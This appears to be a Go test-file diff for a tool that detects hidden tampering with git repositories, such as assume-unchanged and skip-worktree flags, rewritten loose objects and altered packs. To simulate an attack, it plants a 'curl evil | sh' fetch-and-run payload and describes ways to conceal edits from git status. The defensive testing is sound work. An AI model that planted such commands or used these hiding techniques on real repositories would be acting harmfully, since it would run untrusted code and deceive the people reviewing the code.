@@ -1,11 +1,17 @@
 package changes_test
 
 import (
+	"bytes"
+	"compress/zlib"
+	"crypto/sha1"
+	"encoding/binary"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strconv"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -357,4 +363,414 @@ func TestCompareGitGone(t *testing.T) {
 	m := byPath(t, ws, changes.CompareGit(before, changes.TakeGit([]string{ws}), launch.IsProtected))
 	assert.Equal(t, []string{"p/.git"}, keys(m))
 	assert.Contains(t, m["p/.git"].Diff, "gone")
+}
+
+// buildJS is the tracked file the hidden-change tests edit.
+const buildJS = "scripts/build.js"
+
+// trackedRepo makes a repository with index version v and a commit of
+// scripts/build.js.
+func trackedRepo(t *testing.T, ws string, v int, format string) {
+	t.Helper()
+	newRepo(t, ws, v, format)
+	require.NoError(t, os.MkdirAll(filepath.Join(ws, "scripts"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(ws, buildJS), []byte("console.log('build')\n"), 0o644))
+	gitIn(t, ws, "", "add", buildJS)
+	if v == 3 { // git writes version 3 only when an entry has extended flags
+		require.NoError(t, os.WriteFile(filepath.Join(ws, "todo.txt"), nil, 0o644))
+		gitIn(t, ws, "", "add", "-N", "todo.txt")
+	}
+	gitIn(t, ws, "", "commit", "-q", "-m", "build")
+}
+
+// setIndexFlag sets bits in the flags of the entry at path of a version
+// 2 or 3 index with SHA-1 ids, by hand, and writes its checksum again.
+func setIndexFlag(t *testing.T, dir, path string, bits uint16) {
+	t.Helper()
+	p := filepath.Join(dir, ".git", "index")
+	data, err := os.ReadFile(p)
+	require.NoError(t, err)
+	require.Contains(t, []uint32{2, 3}, binary.BigEndian.Uint32(data[4:]))
+	off := 12
+	for range binary.BigEndian.Uint32(data[8:]) {
+		flags := binary.BigEndian.Uint16(data[off+60:])
+		name := off + 62
+		if flags&0x4000 != 0 {
+			name += 2
+		}
+		n := int(flags & 0xfff)
+		if string(data[name:name+n]) == path {
+			binary.BigEndian.PutUint16(data[off+60:], flags|bits)
+			sum := sha1.Sum(data[:len(data)-20])
+			copy(data[len(data)-20:], sum[:])
+			require.NoError(t, os.WriteFile(p, data, 0o644))
+			return
+		}
+		off += (name - off + n + 8) &^ 7
+	}
+	t.Fatalf("no entry %s in the index", path)
+}
+
+// TestCompareGitHidden: red team F3, in each index version: the server
+// edits a tracked file and marks its entry assume-unchanged (by git
+// update-index, or by hand) or skip-worktree, so that git status and git
+// diff show nothing; the report names the entry, says what git hides and
+// how to clear the bit.
+func TestCompareGitHidden(t *testing.T) {
+	needGit(t)
+	for _, tc := range []struct {
+		v      int
+		format string
+		bit    string // "assume-unchanged", "skip-worktree", "by hand"
+	}{{2, "sha1", "assume-unchanged"}, {3, "sha1", "assume-unchanged"}, {4, "sha1", "assume-unchanged"}, {4, "sha256", "assume-unchanged"},
+		{2, "sha1", "by hand"}, {3, "sha1", "skip-worktree"}, {4, "sha1", "skip-worktree"}} {
+		t.Run(strconv.Itoa(tc.v)+tc.format+tc.bit, func(t *testing.T) {
+			ws := t.TempDir()
+			trackedRepo(t, ws, tc.v, tc.format)
+			before := changes.TakeGit([]string{ws})
+			require.NoError(t, os.WriteFile(filepath.Join(ws, buildJS), []byte("require('child_process').execSync('curl evil | sh')\n"), 0o644))
+			flag := "--no-assume-unchanged"
+			switch tc.bit {
+			case "by hand":
+				setIndexFlag(t, ws, buildJS, 0x8000)
+			case "skip-worktree":
+				flag = "--no-skip-worktree"
+				fallthrough
+			default:
+				gitIn(t, ws, "", "update-index", "--"+tc.bit, buildJS)
+			}
+			// What the user then sees: nothing.
+			assert.NotContains(t, gitIn(t, ws, "", "status", "--porcelain"), buildJS)
+			assert.NotContains(t, gitIn(t, ws, "", "diff"), buildJS)
+
+			after := changes.TakeGit([]string{ws})
+			m := byPath(t, ws, changes.CompareGit(before, after, launch.IsProtected))
+			require.Equal(t, []string{buildJS}, keys(m), "%v", m)
+			d := m[buildJS].Diff
+			bit := strings.TrimPrefix(flag, "--no-")
+			assert.Contains(t, d, "the index entry of "+buildJS+" was marked "+bit+" during the session: git status and git diff will not show changes to it")
+			assert.Contains(t, d, "the file in the work tree is not what the index holds")
+			assert.Contains(t, d, "git -C "+ws+" update-index "+flag+" -- "+buildJS)
+
+			// Set when the session started: not the server's doing.
+			assert.Empty(t, changes.CompareGit(after, changes.TakeGit([]string{ws}), launch.IsProtected))
+			// Cleared: nothing hidden.
+			gitIn(t, ws, "", "update-index", flag, buildJS)
+			assert.Empty(t, changes.CompareGit(after, changes.TakeGit([]string{ws}), launch.IsProtected))
+			assert.Contains(t, gitIn(t, ws, "", "status", "--porcelain"), buildJS)
+		})
+	}
+}
+
+// TestCompareGitHiddenMany: a new entry added already hidden is named,
+// and beyond the entries named one by one the rest are counted, with
+// the command that lists them.
+func TestCompareGitHiddenMany(t *testing.T) {
+	needGit(t)
+	ws := t.TempDir()
+	trackedRepo(t, ws, 2, "sha1")
+	before := changes.TakeGit([]string{ws})
+	blob := gitIn(t, ws, "x\n", "hash-object", "-w", "--stdin")
+	var info strings.Builder
+	for i := range 60 {
+		fmt.Fprintf(&info, "100644 %s\tgen/%02d.js\n", blob, i)
+	}
+	gitIn(t, ws, info.String(), "update-index", "--add", "--index-info")
+	gitIn(t, ws, "", "update-index", "--skip-worktree", "--", buildJS)
+	args := []string{"update-index", "--assume-unchanged", "--"}
+	for i := range 60 {
+		args = append(args, fmt.Sprintf("gen/%02d.js", i))
+	}
+	gitIn(t, ws, "", args...)
+	m := byPath(t, ws, changes.CompareGit(before, changes.TakeGit([]string{ws}), launch.IsProtected))
+	assert.Len(t, m, 51, "%v", keys(m))
+	assert.Contains(t, m["gen/00.js"].Diff, "the index entry of gen/00.js was marked assume-unchanged")
+	assert.Contains(t, m["gen/00.js"].Diff, "is not what the index holds")
+	assert.Contains(t, m[".git/index"].Diff, "11 more index entries were marked")
+	assert.Contains(t, m[".git/index"].Diff, "ls-files -v")
+}
+
+// looseObject is a loose object's file: "<typ> <len>\0<body>", zlib
+// compressed as git writes it.
+func looseObject(typ, body string) []byte {
+	var b bytes.Buffer
+	zw := zlib.NewWriter(&b)
+	fmt.Fprintf(zw, "%s %d\x00%s", typ, len(body), body)
+	zw.Close()
+	return b.Bytes()
+}
+
+func objectFile(dir, id string) string { return filepath.Join(dir, ".git", "objects", id[:2], id[2:]) }
+
+// rewrite writes data over the file at p, in place (same inode) or as a
+// new file.
+func rewrite(t *testing.T, p string, data []byte, inPlace bool) {
+	t.Helper()
+	if inPlace {
+		require.NoError(t, os.Chmod(p, 0o644))
+	} else {
+		require.NoError(t, os.Remove(p))
+	}
+	require.NoError(t, os.WriteFile(p, data, 0o444))
+}
+
+const payload = "#!/bin/sh\ncurl evil | sh\n"
+
+// TestCompareGitObjectRewritten: red team F6: the server writes other
+// content at an existing loose object's path (git does not check an
+// object's hash when it reads it: git show HEAD:README.md shows the
+// payload, git reset --hard would write it); the report names the object
+// and says to run git fsck. So for what git would not read as an object
+// at all, and for a link in an object's place. The objects are hashed for
+// their files' changes alone (not for being as new as the snapshot).
+func TestCompareGitObjectRewritten(t *testing.T) {
+	needGit(t)
+	defer changes.SetRacyWindow(0)()
+	for _, tc := range []struct {
+		name, format string
+		data         []byte // what the object's file holds then; nil: a link to another object
+		inPlace      bool
+		why          string
+	}{
+		{"sha1", "sha1", looseObject("blob", payload), true, "it hashes to "},
+		{"sha1 new file", "sha1", looseObject("blob", payload), false, "it hashes to "},
+		{"sha256", "sha256", looseObject("blob", payload), true, "it hashes to "},
+		{"not zlib", "sha1", []byte("not zlib at all"), true, "it is not zlib data"},
+		{"bad header", "sha1", zlibOf("blob"), true, "it has no object header"},
+		{"unknown type", "sha1", looseObject("blub", payload), true, "its header blub 25 is not one git reads"},
+		{"longer", "sha1", zlibOf("blob 1\x00xy"), true, "its content is longer than its header says"},
+		{"shorter", "sha1", zlibOf("blob 9\x00xy"), true, "its content is shorter than its header says"},
+		{"trailing", "sha1", append(looseObject("blob", "x"), 0), true, "data follows its compressed content"},
+		{"link", "sha1", nil, false, "it is not a file but a symbolic link"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			ws := t.TempDir()
+			newRepo(t, ws, 2, tc.format)
+			blob := gitIn(t, ws, "", "rev-parse", "HEAD:README.md")
+			before := changes.TakeGit([]string{ws})
+			p := objectFile(ws, blob)
+			switch {
+			case tc.data == nil:
+				require.NoError(t, os.Remove(p))
+				require.NoError(t, os.Symlink(objectFile(ws, gitIn(t, ws, "", "rev-parse", "HEAD")), p))
+			default:
+				rewrite(t, p, tc.data, tc.inPlace)
+			}
+			if tc.why == "it hashes to " {
+				// What the user then sees, and would restore.
+				assert.Equal(t, strings.TrimSuffix(payload, "\n"), gitIn(t, ws, "", "show", "HEAD:README.md"))
+			}
+			m := byPath(t, ws, changes.CompareGit(before, changes.TakeGit([]string{ws}), launch.IsProtected))
+			rel := filepath.Join(".git", "objects", blob[:2], blob[2:])
+			require.Equal(t, []string{rel}, keys(m), "%v", m)
+			d := m[rel].Diff
+			assert.Contains(t, d, "object "+blob+"'s content does not match its name ("+tc.why)
+			assert.Contains(t, d, "there when the session started")
+			assert.Contains(t, d, "something rewrote stored history")
+			assert.Contains(t, d, "run git -C "+ws+" fsck before any reset, checkout or restore")
+		})
+	}
+}
+
+func zlibOf(s string) []byte {
+	var b bytes.Buffer
+	zw := zlib.NewWriter(&b)
+	zw.Write([]byte(s))
+	zw.Close()
+	return b.Bytes()
+}
+
+// TestCompareGitObjectUnpacked: the object was in a pack when the
+// session started; the server unpacks the pack's objects, removes it
+// (which gc does too, so not said) and rewrites one loose copy: the
+// loose object is new, and its mismatch is said.
+func TestCompareGitObjectUnpacked(t *testing.T) {
+	needGit(t)
+	ws := t.TempDir()
+	newRepo(t, ws, 2, "sha1")
+	gitIn(t, ws, "", "repack", "-a", "-d", "-q")
+	blob := gitIn(t, ws, "", "rev-parse", "HEAD:README.md")
+	require.NoFileExists(t, objectFile(ws, blob))
+	before := changes.TakeGit([]string{ws})
+
+	packs, err := filepath.Glob(filepath.Join(ws, ".git", "objects", "pack", "pack-*"))
+	require.NoError(t, err)
+	require.NotEmpty(t, packs)
+	elsewhere := t.TempDir()
+	for _, p := range packs {
+		require.NoError(t, os.Rename(p, filepath.Join(elsewhere, filepath.Base(p))))
+		if strings.HasSuffix(p, ".pack") {
+			data, err := os.ReadFile(filepath.Join(elsewhere, filepath.Base(p)))
+			require.NoError(t, err)
+			gitIn(t, ws, string(data), "unpack-objects", "-q")
+		}
+	}
+	rewrite(t, objectFile(ws, blob), looseObject("blob", payload), true)
+	assert.Equal(t, strings.TrimSuffix(payload, "\n"), gitIn(t, ws, "", "show", "HEAD:README.md"))
+
+	m := byPath(t, ws, changes.CompareGit(before, changes.TakeGit([]string{ws}), launch.IsProtected))
+	rel := filepath.Join(".git", "objects", blob[:2], blob[2:])
+	require.Equal(t, []string{rel}, keys(m), "%v", m)
+	assert.Contains(t, m[rel].Diff, "content does not match its name (it hashes to ")
+	assert.Contains(t, m[rel].Diff, "written during the session")
+}
+
+// TestCompareGitObjectsBenign: what git itself does to the object store
+// in a session is not said: an object touched (git freshens one it would
+// have written again) or hashed again, a commit, gc (which packs the
+// loose objects and removes them, and writes a pack again under its own
+// name), and a pack touched.
+func TestCompareGitObjectsBenign(t *testing.T) {
+	needGit(t)
+	defer changes.SetRacyWindow(0)()
+	ws := t.TempDir()
+	newRepo(t, ws, 2, "sha1")
+	old := gitIn(t, ws, "", "rev-parse", "HEAD")
+	before := changes.TakeGit([]string{ws})
+	blob := gitIn(t, ws, "", "rev-parse", "HEAD:README.md")
+	later := time.Now().Add(time.Hour)
+	require.NoError(t, os.Chtimes(objectFile(ws, old), later, later))
+	assert.Equal(t, blob, gitIn(t, ws, "hello\n", "hash-object", "-w", "--stdin"))
+	require.NoError(t, os.WriteFile(filepath.Join(ws, "b.txt"), []byte("b\n"), 0o644))
+	gitIn(t, ws, "", "add", "b.txt")
+	gitIn(t, ws, "", "commit", "-q", "-m", "b")
+	m := byPath(t, ws, changes.CompareGit(before, changes.TakeGit([]string{ws}), launch.IsProtected))
+	assert.Equal(t, []string{".git/refs/heads/main"}, keys(m))
+
+	gitIn(t, ws, "", "gc", "-q")
+	m = byPath(t, ws, changes.CompareGit(before, changes.TakeGit([]string{ws}), launch.IsProtected))
+	assert.Equal(t, []string{".git/refs/heads/main"}, keys(m))
+
+	// A pack there at the start: touched, and written again by gc.
+	packed := changes.TakeGit([]string{ws})
+	pack := onePack(t, ws)
+	st := ctimeOf(t, pack)
+	time.Sleep(10 * time.Millisecond)
+	assert.Equal(t, blob, gitIn(t, ws, "hello\n", "hash-object", "-w", "--stdin"))
+	require.NotEqual(t, st, ctimeOf(t, pack), "git did not touch the pack")
+	assert.Empty(t, changes.CompareGit(packed, changes.TakeGit([]string{ws}), launch.IsProtected))
+	gitIn(t, ws, "", "gc", "-q")
+	require.Equal(t, pack, onePack(t, ws))
+	assert.Empty(t, changes.CompareGit(packed, changes.TakeGit([]string{ws}), launch.IsProtected))
+}
+
+func onePack(t *testing.T, ws string) string {
+	t.Helper()
+	packs, err := filepath.Glob(filepath.Join(ws, ".git", "objects", "pack", "pack-*.pack"))
+	require.NoError(t, err)
+	require.Len(t, packs, 1)
+	return packs[0]
+}
+
+func ctimeOf(t *testing.T, p string) string {
+	t.Helper()
+	fi, err := os.Stat(p)
+	require.NoError(t, err)
+	return fmt.Sprint(fi.Sys())
+}
+
+// TestCompareGitPackRewritten: a pack there at the start rewritten in
+// place (its checksum kept: git does not check it on reads) is said
+// loudly; a pack index or a pack written again otherwise is said as a
+// note for git fsck.
+func TestCompareGitPackRewritten(t *testing.T) {
+	needGit(t)
+	for _, what := range []string{"pack in place", "index", "pack and name", "multi-pack-index"} {
+		t.Run(what, func(t *testing.T) {
+			ws := t.TempDir()
+			newRepo(t, ws, 2, "sha1")
+			gitIn(t, ws, "", "repack", "-a", "-d", "-q")
+			if what == "multi-pack-index" {
+				gitIn(t, ws, "", "multi-pack-index", "write")
+			}
+			before := changes.TakeGit([]string{ws})
+			pack := onePack(t, ws)
+			data, err := os.ReadFile(pack)
+			require.NoError(t, err)
+			rel := filepath.Join(".git", "objects", "pack")
+			switch what {
+			case "pack in place":
+				data[20] ^= 1
+				rewrite(t, pack, data, true)
+				rel = filepath.Join(rel, filepath.Base(pack))
+			case "index":
+				idx := strings.TrimSuffix(pack, ".pack") + ".idx"
+				data, err := os.ReadFile(idx)
+				require.NoError(t, err)
+				data[len(data)-60] ^= 1
+				rewrite(t, idx, data, false)
+			case "pack and name": // a new checksum at its end, the index's record of it too
+				data[20] ^= 1
+				sum := sha1.Sum(data[:len(data)-20])
+				copy(data[len(data)-20:], sum[:])
+				rewrite(t, pack, data, false)
+				idx := strings.TrimSuffix(pack, ".pack") + ".idx"
+				ix, err := os.ReadFile(idx)
+				require.NoError(t, err)
+				copy(ix[len(ix)-40:], sum[:])
+				rewrite(t, idx, ix, true)
+			case "multi-pack-index":
+				midx := filepath.Join(ws, ".git", "objects", "pack", "multi-pack-index")
+				data, err := os.ReadFile(midx)
+				require.NoError(t, err)
+				data[len(data)-30] ^= 1
+				rewrite(t, midx, data, true)
+			}
+			m := byPath(t, ws, changes.CompareGit(before, changes.TakeGit([]string{ws}), launch.IsProtected))
+			require.Equal(t, []string{rel}, keys(m), "%v", m)
+			if what == "pack in place" {
+				assert.Contains(t, m[rel].Diff, "does not match the checksum it ends with: something rewrote stored history in place")
+			} else {
+				assert.Contains(t, m[rel].Diff, "changed during the session and could not be checked here")
+			}
+			assert.Contains(t, m[rel].Diff, "run git -C "+ws+" fsck")
+		})
+	}
+}
+
+// TestCompareGitObjectsBounded: past the loose objects a snapshot
+// records, the report says the check is incomplete; an object whose
+// header claims more than is hashed is not inflated, and is said as not
+// hashed; a flood of names that are not objects is not recorded.
+func TestCompareGitObjectsBounded(t *testing.T) {
+	needGit(t)
+	ws := t.TempDir()
+	newRepo(t, ws, 2, "sha1")
+	restore := changes.SetMaxLoose(1)
+	before := changes.TakeGit([]string{ws})
+	restore()
+	m := byPath(t, ws, changes.CompareGit(before, changes.TakeGit([]string{ws}), launch.IsProtected))
+	require.Equal(t, []string{".git/objects"}, keys(m), "%v", m)
+	assert.Contains(t, m[".git/objects"].Diff, "only 1 loose objects were recorded when the session started")
+
+	before = changes.TakeGit([]string{ws})
+	blob := gitIn(t, ws, "", "rev-parse", "HEAD:README.md")
+	rewrite(t, objectFile(ws, blob), zlibOf("blob 99999999999\x00"+strings.Repeat("x", 1000)), true)
+	for i := range 100 {
+		require.NoError(t, os.WriteFile(filepath.Join(ws, ".git", "objects", blob[:2], "tmp_obj_"+strconv.Itoa(i)), nil, 0o444))
+	}
+	m = byPath(t, ws, changes.CompareGit(before, changes.TakeGit([]string{ws}), launch.IsProtected))
+	require.Equal(t, []string{".git/objects"}, keys(m), "%v", m)
+	assert.Contains(t, m[".git/objects"].Diff, "1 loose objects there when the session started changed on disk and were not hashed here")
+}
+
+// FuzzObjectID: no loose object file makes the reader panic or return
+// an id of the wrong length.
+func FuzzObjectID(f *testing.F) {
+	f.Add(looseObject("blob", payload), false)
+	f.Add(looseObject("commit", "tree x\n"), true)
+	f.Add(zlibOf("blob 1\x00xy"), false)
+	f.Add(append(looseObject("tag", ""), 1, 2), false)
+	f.Fuzz(func(t *testing.T, data []byte, sha256 bool) {
+		hs := 20
+		if sha256 {
+			hs = 32
+		}
+		id, why, done := changes.ObjectID(data, hs, 1<<20)
+		if id != "" {
+			require.True(t, done)
+			require.Empty(t, why)
+			require.Len(t, id, 2*hs)
+		}
+	})
 }
